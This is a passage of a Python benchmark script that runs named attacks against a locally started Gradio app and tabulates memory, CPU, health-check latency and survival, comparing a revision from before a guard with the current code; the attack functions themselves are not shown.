            env = {"FORWARDED_ALLOW_IPS": "127.0.0.1", "EMOTION_RATE_LIMIT": "10000", **ENV.get(ATTACKS[name], {})}
            with running_app(tmp_path / "gradio", tmp_path / "server.log", app_dir=app_dir, **env) as (url, proc, _):
                FNS[url], PIDS[url] = Wire(url), proc.pid
                start_rss = rss_mb(proc.pid)
                with watch(url, proc.pid) as seen:
                    try:
                        what = ATTACKS[name](url, tmp_path)
                    except Exception as e:  # noqa: BLE001 - a client-side timeout is part of the finding
                        what = f"attack client gave up: {type(e).__name__}"
                    victim = _victim_ok(url)
                try:  # what the server does once the attack is over: memory kept, work still going on
                    cpu0 = cpu_s(proc.pid)
                    time.sleep(SETTLE_S)
                    settled, cpu_after = f"{rss_mb(proc.pid):.0f}", f"{cpu_s(proc.pid) - cpu0:.1f}"
                except OSError:
                    settled, cpu_after = "–", "–"
                health_after = _health(url).replace("HTTP ", "")
                alive = proc.poll() is None
            rows.append(f"| {name} | {label} | {start_rss:.0f} | {seen['peak_rss_mb']:.0f} | {settled} | "
                        f"{seen['max_health_s']:.2f} | {health_after} | {victim} | {cpu_after} | {'yes' if alive else 'no'} | {what} |")
            print(rows[-1], flush=True)
    return rows


def main() -> None:
    p = argparse.ArgumentParser(prog="python -m bench.attack", description=__doc__.splitlines()[0])
    p.add_argument("--before", help="a git revision to attack too (e.g. the last commit before the guard)")
    p.add_argument("--only", nargs="*", choices=list(ATTACKS), help="run only these attacks")
    a = p.parse_args()
    names = a.only or list(ATTACKS)
    print(f"| attack | revision | RSS at start MB | peak RSS MB | RSS {SETTLE_S:.0f} s after MB | slowest /health s "
          f"(5 s = no answer) | /health after | victim /predict ok | server CPU s in the {SETTLE_S:.0f} s after | alive | "
          f"what happened |")
    print("|---|---|---|---|---|---|---|---|---|---|---|")
    if a.before:
        with tempfile.TemporaryDirectory() as wt:
            subprocess.run(["git", "worktree", "add", "--detach", wt, a.before], cwd=ROOT, check=True, capture_output=True)
            try:
                run(Path(wt), f"before ({a.before[:7]})", names)
            finally:
                subprocess.run(["git", "worktree", "remove", "--force", wt], cwd=ROOT, capture_output=True)
    rev = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, capture_output=True, text=True).stdout.strip()
    if subprocess.run(["git", "status", "--porcelain", "--untracked-files=no"], cwd=ROOT, capture_output=True, text=True).stdout:
        rev += "+changes"
    run(ROOT, f"after ({rev})", names)


if __name__ == "__main__":
    main()
